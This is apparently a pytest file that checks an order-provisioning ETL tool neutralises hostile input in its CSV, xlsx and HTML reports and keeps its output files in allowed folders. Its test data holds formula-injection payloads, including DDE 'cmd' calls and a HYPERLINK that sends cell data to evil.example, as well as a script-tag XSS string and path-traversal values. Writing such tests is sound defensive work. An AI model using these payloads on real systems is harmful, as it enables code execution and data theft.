"""Hostile input through a real run: formula-safe spreadsheets, escaped HTML, files only where they belong.

1. **Formula safety** (SPEC §5, README "Text from the input is always written as text"): customer
   names, order numbers, product numbers, quantities, file and sheet names that start with
   ``=``, ``+``, ``-``, ``@``, a tab or a CR — DDE payloads like ``=cmd|' /C calc'!A0`` included —
   end up inert: no csv cell starts with a trigger (they get a leading ``'``), no xlsx cell of any
   sheet is a formula (``data_type == 'f'``) and the text is there unchanged as a string cell, and
   report.html shows ``<script>`` as text.
2. **Path safety**: order files with hostile names (``..`` runs, leading ``-``/``=``, full-width and
   right-to-left unicode, names at the 255-byte limit) dropped in the inbox, over two nights with
   the same names again: every output lands in ``OUT/<run_id>/`` or the inbox's ``archive/``,
   ``rejected/`` (with its ``.error.txt``) and ``duplicates/``; nothing anywhere else. A hostile
   as-of (a deployment's JSON text) stops the run before anything is written.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
from pathlib import Path

import openpyxl
import pytest

from tests.support.exports import line, write_flat_csv, write_reference
from w365etl.report.cells import FORMULA_TRIGGERS
from w365etl.safe_paths import NAME_MAX_BYTES

AS_OF = dt.date(2026, 11, 29)
TENANT = "0b7f5c2e-1d6a-4c55-9c1e-5d2b8f3a9e01"
PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?d="&A1,"open")', "-2+3+cmd|' /C calc'!A0"]
SCRIPT = "<script>alert('w365')</script>"

pytestmark = pytest.mark.usefixtures("prefect_server")


def _hostile_rows() -> list[dict[str, str]]:
    rows = []
    for i, payload in enumerate(PAYLOADS):
        # held for a mapping: the customer and the order are listed in needs_provider_mapping.csv
        rows.append(line(f"{payload} held-{i}", f"{payload} customer-{i}", "M365-BB-M", "1", "6", number=1))
        # provisioned and fulfilled: the order number reaches order_status_updates.csv and the sheets
        rows.append(line(f"{payload} done-{i}", "Contoso", "SUP-STD-M", "1", "99", number=1))
        # rejected: the bad values are quoted in exceptions.csv
        rows.append(line(f"SO-U{i}", "Contoso", f"{payload}-product", "1", "5", number=1))
        rows.append(line(f"SO-Q{i}", "Contoso", "SUP-STD-M", payload, "5", number=1, extended=""))
    rows.append(line("SO-S", SCRIPT, "NOPE", "1", "5", number=1))
    return rows


def _hostile_workbook(path: Path) -> Path:
    """An order file whose sheet name is a formula, with one bad line (named by sheet in exceptions)."""
    from tests.support.exports import FLAT_HEADERS

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "=1+2 sheet"
    sheet.append(FLAT_HEADERS)
    row = line("SO-X", "Contoso", "=cmd|' /C calc'!A0", "1", "5", number=1)
    sheet.append([row[header] for header in FLAT_HEADERS])
    for cell in sheet[2]:
        cell.data_type = "s"  # the input itself holds text, not formulas
    book.save(path)
    return path


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One run over hostile values, given as relative file names (so the file column starts with
    a trigger too)."""
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setenv("W365_DB_URL", f"sqlite:///{folder / 'w365etl.sqlite'}")
        patch.setenv("W365_PROVIDERS__PARTNER_CENTER__ADAPTER", "record")
        from flows.provision_orders import provision_orders

        reference = write_reference(folder / "ref", [("Contoso", TENANT)])
        write_flat_csv(folder / "=orders.csv", _hostile_rows())
        _hostile_workbook(folder / "@orders.xlsx")
        summary = provision_orders(files=["=orders.csv", "@orders.xlsx"], reference_dir=str(reference),
                                   out_dir="out", as_of=AS_OF)
        return folder / summary["report_folder"], summary


def test_the_hostile_values_reached_every_report(hostile_run):
    folder, summary = hostile_run
    assert summary["lines"]["held"] == len(PAYLOADS) and summary["lines"]["provisioned"] == len(PAYLOADS)
    assert summary["customers_needing_provider_mapping"] == len(PAYLOADS)
    assert summary["exceptions_by_reason"]["UNKNOWN_PRODUCT"] == len(PAYLOADS) + 2


def test_no_csv_cell_starts_like_a_formula(hostile_run):
    folder, _ = hostile_run
    seen: dict[str, set[str]] = {}
    for name in ("exceptions.csv", "needs_provider_mapping.csv", "order_status_updates.csv"):
        with (folder / name).open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        # a plain signed number (a quantity of -1) is a number to a spreadsheet, not a formula
        dangerous = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)
                     and re.fullmatch(r"[+-][0-9]+(?:[.,][0-9]+)*", cell) is None]
        assert dangerous == [], name
        seen[name] = set(cells)
    # the payloads are there, quoted: a customer, a held order, a fulfilled order, a value, a sheet, a file
    for i, payload in enumerate(PAYLOADS):
        name = payload.strip()  # names and order numbers are read trimmed; the rest still starts with = + - @
        assert f"'{name} customer-{i}" in seen["needs_provider_mapping.csv"], payload
        assert f"'{name} done-{i}" in seen["order_status_updates.csv"], payload
        assert "'" + payload in seen["exceptions.csv"], payload  # the quantity cell, quoted as given
    exceptions = seen["exceptions.csv"]
    assert "'=1+2 sheet" in exceptions and "'=orders.csv" in exceptions and "'@orders.xlsx" in exceptions
    assert "'=cmd|' /C calc'!A0" in exceptions


def test_no_xlsx_cell_is_a_formula_and_the_text_is_unchanged(hostile_run):
    folder, _ = hostile_run
    book = openpyxl.load_workbook(folder / "fulfilment_report.xlsx")
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert {sheet.title for sheet in book.worksheets} >= {"Exceptions", "Needs Provider Mapping", "Fulfilled Orders"}
    for i, payload in enumerate(PAYLOADS):
        name = payload.strip()
        assert f"{name} customer-{i}" in texts, payload
        assert f"{name} done-{i}" in texts, payload
        assert payload.replace("\r", "\n") in texts, payload  # xlsx keeps LF; XML would normalise a CR anyway
    assert "=cmd|' /C calc'!A0" in texts and "=1+2 sheet" in texts


def test_report_html_shows_input_as_text(hostile_run):
    folder, _ = hostile_run
    page = (folder / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(&#x27;w365&#x27;)&lt;/script&gt;" in page


# --------------------------------------------------------------------------------------------
# paths

LONG_ASCII = "x" * (NAME_MAX_BYTES - len(".csv")) + ".csv"            # exactly at the limit
LONG_UNICODE = "ü" * 125 + ".xlsx"                                    # 255 bytes, 130 characters
#: names starting with "." are hidden files: the inbox leaves them where they are
HIDDEN_NAMES = ["..orders.csv", "...csv", ".. ..csv"]
WEIRD_NAMES = ["-rf orders.csv", "~orders.csv", "orders..csv", "=cmd|' -C calc'!A0.csv", "ｏｒｄｅｒｓ　２.csv",
               "\u202egpj.orders.csv", "orders \U0001f4e6 .csv", "con.csv", LONG_ASCII]


def _all_files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file() or path.is_symlink()}


def test_hostile_inbox_names_stay_in_their_folders(tmp_path, monkeypatch):
    from flows.provision_orders import provision_orders

    workdir = tmp_path / "work"
    inbox, out = workdir / "inbox", workdir / "out"
    inbox.mkdir(parents=True)
    monkeypatch.chdir(workdir)
    monkeypatch.setenv("W365_DB_URL", f"sqlite:///{workdir / 'w365etl.sqlite'}")
    monkeypatch.setenv("W365_PROVIDERS__PARTNER_CENTER__ADAPTER", "record")
    write_reference(inbox / "reference", [("Contoso", TENANT)])
    outside_before = _all_files(tmp_path) - _all_files(workdir)

    def drop(night: int) -> None:
        for i, name in enumerate(WEIRD_NAMES + HIDDEN_NAMES):
            write_flat_csv(inbox / name, [line(f"SO-{i}", "Contoso", "SUP-STD-M", "1", "99", number=1)])
        (inbox / LONG_UNICODE).write_bytes(b"not a workbook, night %d" % night)  # rejected: needs .error.txt

    summaries = []
    for night in (1, 2):  # night 2: the same names again (duplicates; a second rejected file of that name)
        drop(night)
        state = provision_orders(files=[], inbox_dir=str(inbox), out_dir=str(out), as_of=AS_OF, return_state=True)
        assert state.is_failed() and "rejected" in state.message  # the unreadable workbook
        summaries.append(state.result(raise_on_failure=False))
    assert summaries[0]["lines"]["provisioned"] == len(WEIRD_NAMES)
    assert [f["status"] for f in summaries[1]["files"]].count("duplicate") == len(WEIRD_NAMES)

    allowed = [inbox / "archive" / AS_OF.isoformat(), inbox / "rejected", inbox / "duplicates" / AS_OF.isoformat(),
               *(out / summary["run_id"] for summary in summaries), *(inbox / name for name in HIDDEN_NAMES)]
    written = _all_files(workdir) - {workdir / "w365etl.sqlite", workdir / "w365etl.sqlite-runlock",
                                     workdir / "w365etl.sqlite-wal", workdir / "w365etl.sqlite-shm"}
    stray = sorted(str(path) for path in written if not any(path.resolve().is_relative_to(a.resolve()) for a in allowed))
    assert stray == []
    assert _all_files(tmp_path) - _all_files(workdir) == outside_before  # nothing beside the work folder
    assert all(len(path.name.encode("utf-8")) <= NAME_MAX_BYTES for path in written)
    archived = {path.name for path in (inbox / "archive" / AS_OF.isoformat()).iterdir()}
    assert set(WEIRD_NAMES) <= archived
    assert {path.name for path in (inbox / "duplicates" / AS_OF.isoformat()).iterdir()} == set(WEIRD_NAMES)
    assert all((inbox / name).is_file() for name in HIDDEN_NAMES)
    assert not (inbox / "processing").exists() or not any((inbox / "processing").iterdir())
    rejected = sorted((inbox / "rejected").iterdir())
    errors = [path for path in rejected if path.name.endswith(".error.txt")]
    assert len(rejected) == 4 and len(errors) == 2
    assert all("not a valid xlsx workbook" in path.read_text(encoding="utf-8").lower() for path in errors)


@pytest.mark.parametrize("as_of", ["../../etc", "2026-11-29/../../x", "yesterday"])
def test_a_hostile_as_of_stops_the_run_before_anything_is_written(tmp_path, monkeypatch, as_of):
    from flows.provision_orders import provision_orders

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("W365_DB_URL", f"sqlite:///{tmp_path / 'w365etl.sqlite'}")
    orders = write_flat_csv(tmp_path / "orders.csv", [line("SO-1", "Contoso", "SUP-STD-M", "1", "99", number=1)])
    before = _all_files(tmp_path)
    state = provision_orders(files=[str(orders)], out_dir=str(tmp_path / "out"), as_of=as_of, return_state=True)
    assert state.is_failed() and "YYYY-MM-DD" in state.message
    assert _all_files(tmp_path) == before


def test_an_as_of_given_as_text_is_the_business_date(tmp_path, monkeypatch):
    """A deployment's parameters arrive as JSON: the as-of is text there."""
    from flows.provision_orders import provision_orders

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("W365_DB_URL", f"sqlite:///{tmp_path / 'w365etl.sqlite'}")
    orders = write_flat_csv(tmp_path / "orders.csv", [line("SO-1", "Contoso", "SUP-STD-M", "1", "99", number=1)])
    summary = provision_orders(files=[str(orders)], out_dir=str(tmp_path / "out"), as_of="2026-11-29")
    assert summary["as_of"] == "2026-11-29"
    assert json.loads((Path(summary["report_folder"]) / "summary.json").read_text())["as_of"] == "2026-11-29"
    assert os.path.dirname(summary["report_folder"]) == str(tmp_path / "out")
